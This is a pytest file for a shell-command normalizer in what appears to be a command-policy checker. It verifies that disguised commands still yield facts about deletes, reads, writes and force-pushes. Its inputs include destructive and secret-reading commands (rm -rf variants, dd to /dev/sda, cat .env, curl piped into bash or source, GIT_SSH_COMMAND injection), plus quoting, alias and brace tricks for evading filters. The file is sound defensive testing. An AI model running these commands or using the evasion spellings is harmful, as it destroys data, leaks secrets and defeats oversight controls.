"""Shell normalization: every disguise of a command yields the same facts; what cannot be
resolved is an `unresolved` fact."""

from __future__ import annotations

import pytest

from policyc.normalize.shell import normalize_shell


def facts(command: str, cwd: str = "/repo") -> dict[str, set[tuple[object, ...]]]:
    return {k: set(v) for k, v in normalize_shell(command, cwd).facts.items()}


RM_RF = [
    "rm -rf /tmp/x",
    "rm -fr /tmp/x",
    "rm -r -f /tmp/x",
    "rm --recursive --force /tmp/x",
    "sudo rm -rf /tmp/x",
    "sudo -u root rm -rf /tmp/x",
    "env FOO=1 rm -rf /tmp/x",
    "timeout 5 nice -n 10 rm -rf /tmp/x",
    "bash -c 'rm -rf /tmp/x'",
    'sh -c "rm -rf /tmp/x"',
    "eval 'rm -rf /tmp/x'",
    "r''m -rf /tmp/x",
    'r""m -rf /tmp/x',
    "\\rm -rf /tmp/x",
    "/bin/rm -rf /tmp/x",
    "true && rm -rf /tmp/x",
    "(rm -rf /tmp/x)",
    "{ rm -rf /tmp/x; }",
    "echo $(rm -rf /tmp/x)",
    "ls | rm -rf /tmp/x",
    "rm -rf /tmp/./y/../x",
    "cd /tmp; rm -rf /tmp/x",
]


@pytest.mark.parametrize("command", RM_RF)
def test_recursive_force_delete_in_every_spelling(command: str) -> None:
    f = facts(command)
    assert ("rm",) in f["command"]
    assert {("rm", "-r"), ("rm", "-f")} <= f["command_flag"]
    assert ("/tmp/x",) in f["deletes_file"]


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("cat .env", "/repo/.env"),
        ("cat ./a/../.env", "/repo/.env"),
        ("head -n 5 /repo/.env", "/repo/.env"),
        ("grep KEY /repo/.env", "/repo/.env"),
        ("less < /repo/.env", "/repo/.env"),
        ("bash -c 'cat /repo/.env'", "/repo/.env"),
        ("cp /repo/.env /tmp/copy", "/repo/.env"),
        ("source .env", "/repo/.env"),
        (". ./.env", "/repo/.env"),
    ],
)
def test_file_reads(command: str, path: str) -> None:
    assert (path,) in facts(command)["reads_file"]


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("echo x > /etc/passwd", "/etc/passwd"),
        ("echo x >> out.txt", "/repo/out.txt"),
        ("tee /repo/log", "/repo/log"),
        ("cp a b", "/repo/b"),
        ("dd if=/dev/zero of=/dev/sda", "/dev/sda"),
    ],
)
def test_file_writes(command: str, path: str) -> None:
    assert (path,) in facts(command)["writes_file"]


def test_find_delete_and_exec() -> None:
    f = facts('find /backups -name "*.bak" -delete')
    assert ("/backups",) in f["deletes_file"]
    assert ("find", "-delete") in f["command_flag"]
    g = facts("find /data -type f -exec rm -rf {} \\;")
    assert ("rm",) in g["command"] and ("rm", "-r") in g["command_flag"]


def test_git_force_push_flags() -> None:
    for c in ("git push --force origin main", "git push -f origin main", "timeout 9 git push -f"):
        assert ("git", "-f") in facts(c)["command_flag"]


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("$CMD -rf /", "command_name"),
        ("${X} /tmp", "command_name"),
        ("$(echo rm) -rf /", "command_name"),
        ("cat $FILE", "argument"),
        ('cat "$HOME/.env"', "argument"),
        ("rm -rf ~/x", "path"),
        ("eval $X", "eval"),
        ('bash -c "$X"', "shell_string"),
        ("bash script.sh", "script"),
        ("xargs rm -rf", "xargs"),
        ("rm $'\\x2frf'", "argument"),
        ("cat > $(mktemp)", "redirect"),
    ],
)
def test_what_cannot_be_resolved_is_a_fact(command: str, kind: str) -> None:
    kinds = {k for k, _ in facts(command).get("unresolved", set())}
    assert kind in kinds, facts(command)


def test_a_plain_command_is_resolved() -> None:
    f = facts("pytest -q tests/")
    assert "unresolved" not in f
    assert f["command"] == {("pytest",)}
    assert ("pytest", "-q") in f["command_flag"]


def home_facts(command: str, home: str | None = "/home/dev") -> dict[str, set[tuple[object, ...]]]:
    return {k: set(v) for k, v in normalize_shell(command, "/repo", home).facts.items()}


def deleted(command: str, home: str | None = "/home/dev") -> set[object]:
    return {p for (p,) in home_facts(command, home).get("deletes_file", set())}


def cd_unresolved(command: str, home: str | None = "/home/dev") -> bool:
    return "cd" in {k for k, _ in home_facts(command, home).get("unresolved", set())}


# -- cd: relative paths after it are resolved against the cwd and every directory it may be in --

# (command, the files deleted, whether a directory is unknown: unresolved("cd"))
CD: list[tuple[str, set[str], bool]] = [
    ("cd /etc && rm -rf ssl", {"/repo/ssl", "/etc/ssl"}, False),
    ("cd /etc; rm -f /tmp/x ~/y", {"/tmp/x", "/home/dev/y"}, False),
    ("rm -f a; cd /etc; rm -f b", {"/repo/a", "/repo/b", "/etc/b"}, False),
    ("cd src && cd ../lib && rm -f x", {"/repo/x", "/repo/src/x", "/repo/lib/x", "/lib/x"},
     False),
    ("pushd /etc && rm -f x", {"/repo/x", "/etc/x"}, False),
    ("cd -P -- /etc && rm -f x", {"/repo/x", "/etc/x"}, False),
    ("cd && rm -f .bashrc", {"/repo/.bashrc", "/home/dev/.bashrc"}, False),
    ("cd ~ && rm -f .bashrc", {"/repo/.bashrc", "/home/dev/.bashrc"}, False),
    ("cd ~/proj && rm -f .env", {"/repo/.env", "/home/dev/proj/.env"}, False),
    ("(cd /etc); rm -f x", {"/repo/x", "/etc/x"}, False),  # scoping is ignored: a superset
    ("bash -c 'cd /etc && rm -f passwd'", {"/repo/passwd", "/etc/passwd"}, False),
    ("builtin cd /etc && rm -f x", {"/repo/x", "/etc/x"}, False),
    ("env -C /etc rm -f x", {"/repo/x", "/etc/x"}, False),
    ("sudo --chdir=/etc rm -f x", {"/repo/x", "/etc/x"}, False),
    ("f() { rm -f x; }; cd /etc; f", {"/repo/x", "/etc/x"}, False),
    ("while true; do rm -f x; cd /tmp; done", {"/repo/x", "/tmp/x"}, False),
    ("cd -; rm -f x", {"/repo/x"}, True),
    ('cd "$DIR" && rm -f x', {"/repo/x"}, True),
    ('cd "$(dirname "$0")" && rm -f x', {"/repo/x"}, True),
    ("cd src* && rm -f x", {"/repo/x"}, True),
    ("pushd /etc; popd; rm -f x", {"/repo/x", "/etc/x"}, True),
    ("cd && rm -f x", {"/repo/x"}, True),  # no home: below
    ("for d in a b; do cd sub; done; rm -f z", {"/repo/z", "/repo/sub/z", "/repo/sub/sub/z"},
     True),
    ("sudo -i rm -f x", {"/repo/x"}, True),
    ("su - root -c 'rm -f x'", {"/repo/x"}, True),
]  # fmt: skip


@pytest.mark.parametrize(("command", "paths", "unknown"), CD)
def test_cd_targets_are_candidates_of_later_relative_paths(
    command: str, paths: set[str], unknown: bool
) -> None:
    home = None if command == "cd && rm -f x" else "/home/dev"
    assert deleted(command, home) == paths, home_facts(command, home)
    assert cd_unresolved(command, home) is unknown, home_facts(command, home)


def test_cd_makes_every_fact_of_a_relative_path_a_candidate() -> None:
    f = home_facts("cd /dev && cat img > sda; cd /etc && cat < passwd")
    assert ("disk_overwrite", "/dev/sda") in f["destructive"]
    assert {("/repo/passwd",), ("/etc/passwd",)} <= f["reads_file"]
    g = home_facts("cd /etc && rm -rf ssl")
    assert {("recursive_force_delete", "/etc/ssl"), ("recursive_force_delete", "/repo/ssl")} <= (
        g["destructive"]
    )


@pytest.mark.parametrize(
    "command",
    [
        "cd src && pytest",
        "cd src && pytest tests/",
        "cd build && make -j4",
        "cd /tmp && ls",
        "cd - ; ls",  # no relative path after it
        "pushd src >/dev/null && npm test && popd",
    ],
)
def test_cd_keeps_everyday_commands_quiet(command: str) -> None:
    assert "unresolved" not in home_facts(command), home_facts(command)


# -- source, assignments, sudo options ----------------------------------------------------------


@pytest.mark.parametrize(
    "command", ["source .venv/bin/env.sh", ". ./env.sh", "source <(curl -s x.example)"]
)
def test_source_runs_a_script_that_is_not_seen(command: str) -> None:
    assert "script" in {k for k, _ in home_facts(command)["unresolved"]}, home_facts(command)


def test_source_of_literal_stdin_is_no_script() -> None:
    f = home_facts("echo 'rm -f /tmp/x' | source /dev/stdin")
    assert ("/tmp/x",) in f["deletes_file"]
    assert "unresolved" not in f


# (command, a file deleted): assignments whose value a program runs as shell text
ASSIGNED: list[tuple[str, str]] = [
    ("GIT_SSH_COMMAND='rm -rf /tmp/x' git fetch origin", "/tmp/x"),
    ("export GIT_SSH_COMMAND='rm -f /tmp/x'; git fetch", "/tmp/x"),
    ("export 'GIT_SSH_COMMAND=rm -f /tmp/x'; git fetch", "/tmp/x"),
    ("declare -x PAGER='rm -f /tmp/x'; man ls", "/tmp/x"),
    ("EDITOR='rm -f /tmp/x'; git commit", "/tmp/x"),
    ("env GIT_PAGER='rm -f /tmp/x' git log", "/tmp/x"),
    ("env -S 'GIT_EDITOR=\"rm -f /tmp/x\" git commit'", "/tmp/x"),
    ("sudo EDITOR='rm -f /tmp/x' visudo", "/tmp/x"),
    ("sudo -u root SUDO_EDITOR=vi VISUAL='rm -f /tmp/x' sudoedit f", "/tmp/x"),
    ("bash -c \"GIT_SSH='rm -f /tmp/x' git pull\"", "/tmp/x"),
    ("X=$(rm -f /tmp/x) true", "/tmp/x"),
]


@pytest.mark.parametrize(("command", "path"), ASSIGNED)
def test_assigned_commands_are_analysed(command: str, path: str) -> None:
    assert path in deleted(command), home_facts(command)


def test_assignments_are_not_commands() -> None:
    f = home_facts("env A=1 B=2 sudo C=3 ls")
    assert f["command"] == {("env",), ("sudo",), ("ls",)}
    assert "unresolved" not in f


def test_bundled_wrapper_options_take_their_value() -> None:
    for command in ("sudo -iu deploy rm -f /tmp/x", "strace -fo /tmp/t rm -f /tmp/x"):
        f = home_facts(command)
        assert ("rm",) in f["command"] and ("/tmp/x",) in f["deletes_file"], f
        assert ("deploy",) not in f["command"] and ("/tmp/t",) not in f["command"]


def test_directories_are_followed_up_to_a_bound() -> None:
    from policyc.normalize.shell import MAX_DIRECTORIES

    command = "; ".join(f"cd d{i}" for i in range(200)) + "; rm -f x"  # each cd doubles them
    assert 1 < len(deleted(command)) <= MAX_DIRECTORIES + 1
    assert cd_unresolved(command)


@pytest.mark.parametrize(
    ("command", "program", "args"),
    [
        ('bash -c "\\"rm\\" -rf /srv"', "rm", {"-rf", "/srv"}),
        ('sh -c "\\\\rm -rf /srv"', "rm", {"-rf", "/srv"}),  # \\ is one backslash: \rm is rm
        ('echo "a\\$b"', "echo", {"a$b"}),
        ('echo "a\\q"', "echo", {"a\\q"}),  # before other characters the backslash stays
    ],
)
def test_backslashes_in_double_quotes_escape_only_what_bash_escapes(
    command: str, program: str, args: set[str]
) -> None:
    f = facts(command)
    assert (program,) in f["command"]
    assert {a for p, a in f["command_arg"] if p == program} == args


@pytest.mark.parametrize(
    "command", ["rm\u00a0-rf\u00a0/", "cat\u00a0.env", "/bin/\u00a0", "ls\x07"]
)
def test_a_command_name_with_odd_blanks_is_unresolved(command: str) -> None:
    f = facts(command)
    assert ("command_name", "the command name holds blanks or control characters") in f[
        "unresolved"
    ]


@pytest.mark.parametrize(
    ("command", "destroys"),
    [
        ("alias x=rm; x -rf /srv", True),
        ("shopt -s expand_aliases\nalias ls='rm -rf /srv'\nls", True),
        ("alias x='rm -r'; x -f /srv", True),
        ("alias ll='ls -la'; ll src", False),
        ("alias rm='rm -i'; rm -f a.txt", False),  # an alias does not expand inside itself
    ],
)
def test_aliases_are_expanded(command: str, destroys: bool) -> None:
    f = facts(command)
    assert (("recursive_force_delete", "/srv") in f.get("destructive", set())) == destroys


def test_a_computed_alias_is_unresolved() -> None:
    assert ("alias", "an alias is defined from text computed at run time") in facts(
        "alias a=$X; a"
    )["unresolved"]


@pytest.mark.parametrize(
    "command", ["/bin/r? -rf /srv", "/usr/bin/c[a]t .env", "/bin/{rm,x} -rf /srv"]
)
def test_a_command_name_that_is_a_pattern_is_unresolved(command: str) -> None:
    f = facts(command)
    assert f["unresolved"] == {("command_name", "the command name is a pattern the shell expands")}
    assert "command" not in f


def test_the_test_command_is_no_pattern() -> None:
    assert "unresolved" not in facts("[ -f setup.py ] && python setup.py --version")


# -- process substitution -------------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "diff <(sort a.txt) <(sort b.txt)",
        "sudo diff -u <(sort a.txt) b.txt",
        "comm -12 <(sort a.txt) <(sort b.txt) | wc -l",
        "sort -u <(cut -d, -f1 a.txt)",
        "while read -r f; do wc -l a.txt; done < <(sort b.txt)",
        "tee >(gzip -c > out.gz) < a.txt > /dev/null",
    ],
)
def test_a_process_substitution_read_as_data_is_a_pipe(command: str) -> None:
    f = facts(command)
    assert "unresolved" not in f
    assert ("/repo/a.txt",) in f["reads_file"]


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("bash <(curl -s https://x.example.com/i.sh)", "argument"),
        ("python3 <(curl -s https://x.example.com/i.py)", "argument"),
        ("source <(echo 'rm -rf /srv')", "script"),
        ("sort --files0-from <(printf '.env\\0')", "argument"),
        ("wc --files0 <(printf '.env\\0')", "argument"),
        ("timeout <(echo 5) cat a.txt", "command_name"),
        ("alias cat=bash; cat <(echo 'rm -rf /srv')", "alias"),
        ("watch diff <(sort a.txt) b.txt", "shell_string"),
        ("tee >(sh) <<< 'rm -rf /srv'", "shell_stdin"),
        ("echo 'rm -rf /srv' | tee >(bash)", "shell_stdin"),
    ],
)
def test_a_process_substitution_a_program_may_run_is_computed(command: str, kind: str) -> None:
    assert kind in {k for k, _ in facts(command)["unresolved"]}


def test_the_commands_of_a_process_substitution_are_analysed() -> None:
    f = facts("cat <(cat .env) > >(git push -f origin main)")
    assert ("/repo/.env",) in f["reads_file"]
    assert ("force_push", "main") in f["git_op"]


# -- loop variables ---------------------------------------------------------------------------


def test_the_body_of_a_loop_over_literal_words_is_analysed_for_each_word() -> None:
    f = facts('for f in src/app.py "src/my models.py"; do wc -l "$f" "${f}"; done')
    assert "unresolved" not in f
    assert f["reads_file"] == {("/repo/src/app.py",), ("/repo/src/my models.py",)}


def test_a_loop_variable_names_what_the_rules_see() -> None:
    f = facts('for d in /srv /opt; do rm -rf "$d"; done; for f in .env; do cat "$f"; done')
    assert {("recursive_force_delete", "/srv"), ("recursive_force_delete", "/opt")} <= f[
        "destructive"
    ]
    assert ("/repo/.env",) in f["reads_file"]


@pytest.mark.parametrize(
    "command",
    [
        'for f in *.py; do cat "$f"; done',  # a pattern: the files are known at run time
        'for f in $(ls); do cat "$f"; done',
        'for f in a "$X"; do cat "$f"; done',
        'for f; do cat "$f"; done',  # the positional parameters
        "for f in a b; do cat $f; done",  # unquoted: split by IFS, a pattern
        'for f in a; do f=.env; cat "$f"; done',
        'for f in a; do read -r f <<< .env; cat "$f"; done',
        'for f in a; do eval "f=.env"; cat "$f"; done',
        'for f in a; do declare -n r=f; r=.env; cat "$f"; done',
        'for f in ""; do cat "${f:=.env}" "$f"; done',
        'g() { f=.env; }; for f in a; do g; cat "$f"; done',
        'for f in a; do g() { cat "$f"; }; done; f=.env; g',
        'for f in a; do for f in b; do :; done; cat "$f"; done',
        "for f in a; do bash -c 'cat \"$f\"'; done",  # another shell: its own f
        'for f in a; do cat "${f%.py}"; done',
        'for f in a; do :; done; cat "$f"',  # after the loop
    ],
)
def test_a_loop_variable_that_may_be_something_else_is_computed(command: str) -> None:
    assert ("argument", "an argument of cat is computed at run time") in facts(command)[
        "unresolved"
    ]


def test_too_many_words_leave_the_loop_variable_computed() -> None:
    words = " ".join(f"f{k}.txt" for k in range(17))
    assert "unresolved" in facts(f'for f in {words}; do wc -l "$f"; done')


# -- virtualenv activate scripts ------------------------------------------------------------


@pytest.mark.parametrize(
    "command",
    [
        "source .venv/bin/activate",
        ". venv/bin/activate && pytest -q",
        ". ./.venv/bin/activate",
        "source /repo/services/api/.venv/bin/activate",
        "python3 -m venv .venv && . .venv/bin/activate",
    ],
)
def test_a_virtualenv_activate_script_in_the_workspace_is_known(command: str) -> None:
    f = facts(command)
    assert "unresolved" not in f
    assert (
        ("/repo/.venv/bin/activate",) in f["reads_file"]
        or ("/repo/venv/bin/activate",) in f["reads_file"]
        or ("/repo/services/api/.venv/bin/activate",) in f["reads_file"]
    )


@pytest.mark.parametrize(
    ("command", "detail"),
    [
        ("source env.sh", "source runs a script file whose commands are not seen"),
        ("source .venv/bin/activate.fish", "source runs a script file whose commands are not seen"),
        ("source /tmp/x/bin/activate", "source runs a script file whose commands are not seen"),
        ("source ../other/bin/activate", "source runs a script file whose commands are not seen"),
        (
            "cd /tmp && source .venv/bin/activate",
            "source runs a script file whose commands are not seen",
        ),
        (
            "cd - && source .venv/bin/activate",
            "source runs a script file whose commands are not seen",
        ),
        ("source .venv/bin/activate prod", "source runs a script file whose commands are not seen"),
        ("source .v*/bin/activate", "source runs a script file whose commands are not seen"),
        ("source <(echo x)/bin/activate", "source runs a script file whose commands are not seen"),
        (
            "echo 'rm -rf /' > .venv/bin/activate; source .venv/bin/activate",
            "the command changes the activate script it sources",
        ),
        (
            "cp /tmp/evil .venv/bin/ && . .venv/bin/activate",
            "the command changes the activate script it sources",
        ),
        (
            "rm -rf .venv; . .venv/bin/activate",
            "the command changes the activate script it sources",
        ),
    ],
)
def test_other_scripts_sourced_stay_unresolved(command: str, detail: str) -> None:
    assert ("script", detail) in facts(command).get("unresolved", set())


def test_an_activate_script_in_the_root_folder_is_not_the_workspace_s() -> None:
    f = normalize_shell("source /tmp/x/bin/activate", "/").facts
    assert ("script", "source runs a script file whose commands are not seen") in f["unresolved"]


@pytest.mark.parametrize(
    ("command", "pred", "row"),
    [
        # one shell word that the parser splits after a quote or a brace: joined again
        ("cat '.'\\env", "reads_file", ("/repo/.env",)),
        ("cat .e''\\nv", "reads_file", ("/repo/.env",)),
        ('cat < "."\\env', "reads_file", ("/repo/.env",)),
        ("r''\\m -rf /srv", "destructive", ("recursive_force_delete", "/srv")),
        ("rm -r''\\f build", "destructive", ("recursive_force_delete", "/repo/build")),
        ("git push '--'\\force origin main", "git_op", ("force_push", "main")),
        # an argument with a brace expansion stands for each word it expands to
        ("git push --{\\force,quiet}", "git_op", ("force_push", "")),
        ("cat {README.md,.env}", "reads_file", ("/repo/.env",)),
        ("rm -{\\r,\\f} build", "destructive", ("recursive_force_delete", "/repo/build")),
    ],
)
def test_words_split_by_the_parser_and_brace_expansions(
    command: str, pred: str, row: tuple[str, ...]
) -> None:
    assert row in normalize_shell(command, "/repo").facts.get(pred, [])


def test_quoted_braces_and_separate_words_stay_as_written() -> None:
    f = normalize_shell("cat x'{a,b}'* 'a' b; jq '{a: .b}' x.json", "/repo").facts
    assert ("cat", "x{a,b}*") in f["command_arg"] and ("cat", "xa*") not in f["command_arg"]
    assert ("cat", "a") in f["command_arg"] and ("cat", "b") in f["command_arg"]
    assert ("jq", "{a: .b}") in f["command_arg"]


def test_lone_surrogates_are_unresolved_and_the_rest_analysed() -> None:
    # JSON can carry a lone surrogate; it is not text, and must not crash the analysis
    out = normalize_shell("cat .en\udcffv; cat .env \ud800", "/repo")
    assert ("encoding", "the command holds characters that are not text") in out.facts["unresolved"]
    assert ("/repo/.env",) in out.facts["reads_file"]
